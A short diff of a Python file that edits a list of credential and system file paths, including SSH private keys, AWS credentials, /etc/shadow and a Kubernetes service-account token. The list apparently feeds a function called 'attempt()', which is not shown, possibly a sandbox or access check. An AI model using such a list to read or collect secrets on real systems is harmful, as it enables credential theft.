@@ -35,7 +35,7 @@ def attempt():
 import os
 
 PLACES = ["~/.ssh/id_rsa", "~/.ssh/id_ed25519", "~/.netrc", "~/.aws/credentials", "/etc/shadow", "/etc/gshadow"]
-PLACES += ["/root/.ssh/id_rsa", "/var/run/secrets/kubernetes.io/serviceaccount/token", "/etc/hostname", "/etc/passwd"]
+PLACES += ["~root/.ssh/id_rsa", "/var/run/secrets/kubernetes.io/serviceaccount/token", "/etc/hostname", "/etc/passwd"]
 
 
 def attempt():
